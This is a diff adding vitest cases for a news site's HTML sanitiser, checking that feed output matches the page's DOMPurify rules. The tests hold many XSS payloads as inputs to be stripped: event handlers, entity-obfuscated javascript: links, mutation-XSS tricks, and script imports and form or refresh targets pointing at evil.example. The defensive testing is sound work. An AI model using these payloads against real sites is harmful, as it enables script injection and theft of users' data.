@@ -1,4 +1,7 @@
-import { describe, expect, it } from 'vitest';
+import { JSDOM } from 'jsdom';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { provideHtmlWindow } from '../src/lib/rich-text/html-window.ts';
+import { sanitizeRichText } from '../src/lib/rich-text/sanitize.ts';
 import { sanitizeFeedHtml } from './feed-html.ts';
 
 describe('sanitizeFeedHtml', () => {
@@ -29,10 +32,37 @@ describe('sanitizeFeedHtml', () => {
     ['<style>p{background:url(javascript:alert(1))}</style>x', 'x'],
     ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', ''],
     ['a < b > c & d', 'a &lt; b &gt; c &amp; d'],
-    ['<p>unclosed <b', '<p>unclosed <b>'],
+    // A tag cut off by the end of the body is no tag (as a browser reads it); the paragraph is closed.
+    ['<p>unclosed <b', '<p>unclosed </p>'],
     ['<ol start="1 onclick=alert(1)"><li>x</li></ol>', '<ol><li>x</li></ol>'],
     ['x\u0000y\u0008z', 'xyz'],
   ])('makes %s inert', (input, expected) => {
+    expect(sanitizeFeedHtml(input)).toBe(expected);
+  });
+
+  it.each([
+    // Scripts and styles, however they are written.
+    ['<p>a<script type="module">import("//evil.example/x.js")</script>b</p>', '<p>ab</p>'],
+    ['<scr<script>ipt>alert(1)</script>', 'ipt&gt;alert(1)'],
+    ['<p style="background:url(javascript:alert(1))">x</p><style>@import "//evil.example/x.css";</style>', '<p>x</p>'],
+    // Every event handler, on an allowed element or not.
+    ['<a href="https://ok.example" onclick="alert(1)" onfocus=alert(2) autofocus>x</a>', '<a href="https://ok.example" target="_blank" rel="noopener noreferrer nofollow">x</a>'],
+    ['<blockquote onmouseover="alert(1)"><p ONCLICK="alert(2)">c</p></blockquote>', '<blockquote><p>c</p></blockquote>'],
+    ['<details open ontoggle=alert(1)><summary>s</summary>t</details>', 'st'],
+    // Addresses that run code, hidden by entities, tabs or case.
+    ['<a href="jav&#x09;ascript:alert(1)">x</a>', '<a target="_blank" rel="noopener noreferrer nofollow">x</a>'],
+    ['<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>', '<a target="_blank" rel="noopener noreferrer nofollow">x</a>'],
+    ['<a href="vbscript:msgbox(1)">x</a><a href="ftp://files.example/a">y</a>', '<a target="_blank" rel="noopener noreferrer nofollow">x</a><a target="_blank" rel="noopener noreferrer nofollow">y</a>'],
+    // Frames, plug-ins, forms and media: gone with what they hold.
+    ['<iframe src="https://www.youtube.com/embed/x" allowfullscreen>v</iframe><p>depois</p>', '<p>depois</p>'],
+    ['<object data="x.swf"><param name="a" value="b"><embed src="x.swf"></object>z', 'z'],
+    ['<form action="https://evil.example"><input name="senha"><select><option>o</option></select><textarea>t</textarea><button>Enviar</button></form>', 'Enviar'],
+    ['<video src="x.mp4" poster="y.jpg"><p>v</p></video><audio src="x.mp3">a</audio>w', 'w'],
+    ['<math><mi>x</mi></math><template><p>t</p></template>k', 'k'],
+    // Whatever would change the page around it.
+    ['<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel="stylesheet" href="x.css">L', 'L'],
+    ['<p class="x" id="y" data-a="1" aria-hidden="true" lang="en" dir="rtl" title="t">p</p>', '<p>p</p>'],
+  ])('drops %s', (input, expected) => {
     expect(sanitizeFeedHtml(input)).toBe(expected);
   });
 
@@ -77,5 +107,47 @@ describe('sanitizeFeedHtml', () => {
       ).toBe(`<img src="${HOSTED}" height="9">`);
       expect(sanitizeFeedHtml(`<img srcset="${HOSTED} 1x">`, options)).toBe('');
     });
+  });
+});
+
+describe("the feed's rule set is the page's: the same body comes out of both sanitisers as the same HTML", () => {
+  const HOSTED = 'https://abcdefghijklmnopqrst.supabase.co/storage/v1/object/public/publications/0b7a/original-1600w.jpg';
+  const SITE = 'https://portoferreiranoticias.com.br';
+  const imageOrigins = [SITE];
+
+  beforeAll(() => {
+    // The page's sanitiser (DOMPurify) on the DOM the server's render gives it (src/app/render-request.tsx).
+    provideHtmlWindow(new JSDOM('').window);
+  });
+
+  it.each([
+    // What the editor writes (src/features/admin/editor): text, headings, lists, quotes, code, links and figures.
+    ['text', '<p>Olá <strong>mundo</strong> &amp; <em>cia</em>: it\'s "aspas", a&nbsp;b, &eacute;, &lt;tag&gt; e 1 &gt; 0</p>'],
+    ['structure', '<h2>T</h2><h3>S</h3><h4>s</h4><ul><li><p>a</p></li></ul><ol start="3"><li><p>b</p></li></ol><blockquote><p>c</p></blockquote><hr><p>x<br>y</p>'],
+    ['code', '<pre><code>const a = 1 &lt; 2;\n  b</code></pre><p><code>x</code> <s>y</s> <u>z</u> <b>b</b> <i>i</i></p>'],
+    ['links', '<p><a href="https://example.com/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">l</a> <a href="mailto:a@b.com">m</a> <a href="tel:+551935810000">t</a></p>'],
+    ['a figure', `<figure><img src="${HOSTED}" alt="Praça &amp; &quot;Matriz&quot;" width="1600" height="900"><figcaption>Foto: Ana</figcaption></figure>`],
+    ['a relative image', '<p>a<img src="/storage/v1/object/public/publications/a/original-800w.png" alt="">b</p>'],
+    ['a caption alone', '<figure><figcaption>Foto: Ana</figcaption></figure>'],
+    // What the allow-list refuses or rewrites.
+    ['a foreign image', '<figure><img src="https://evil.example/x.jpg" alt="x"><figcaption>Foto: Ana</figcaption></figure><p>depois</p>'],
+    ['a foreign image in a refused element', '<figure><span><img src="https://evil.example/x.jpg"></span><figcaption>Foto</figcaption></figure><p>depois</p>'],
+    ['a foreign image in a paragraph of a figure', '<figure><p><img src="https://evil.example/x.jpg"></p><figcaption>Foto</figcaption></figure>'],
+    ['image attributes', `<img src="${HOSTED}" src="https://evil.example/x.jpg" srcset="x 2x" onerror=alert(1) width="100%" height=9 alt="a">`],
+    ['link attributes', '<a target="_self" href="https://example.com" rel="opener" title="t">l</a><a href="/rel">r</a><a href="ftp://x">f</a>'],
+    ['list starts', '<ol start="1 onclick=alert(1)"><li>x</li></ol><ol start="-2"><li>y</li></ol>'],
+    ['other elements', '<h1>T</h1><h5>F</h5><div><span class="c">d</span></div><table><tr><td>c</td></tr></table>'],
+    ['scripts', '<script>alert(1)</script><p onclick="alert(1)">ok</p><SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
+    ['styles', '<p style="color:red">x</p><style>p{color:red}</style>'],
+    ['javascript: links', '<a href="javascript:alert(1)">x</a><a href="java&#115;cript:alert(1)">y</a><a href=" JaVaScRiPt:alert(1)">z</a>'],
+    ['embedded content', '<iframe src="https://evil.example">i</iframe><object data="x"><embed src="y"></object><video src="v"><p>v</p></video>w'],
+    ['forms', '<form action="/x"><input name="a"><select><option>o</option></select><textarea><p>t</p></textarea><button>b</button></form>'],
+    ['foreign content', '<svg><script>alert(1)</script><circle onload=alert(2)></svg><math><mi>x</mi></math>after'],
+    ['mutation tricks', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
+    ['misnesting', '<b><i>x</b></i><p>a<p>b<ul><li>a<li>b</ul>'],
+    ['a cut-off tag', '<p>unclosed <b'],
+    ['plain text', 'a < b > c & d'],
+  ])('%s', (_, body) => {
+    expect(sanitizeFeedHtml(body, { imageOrigins })).toBe(sanitizeRichText(body, { imageOrigins }));
   });
 });
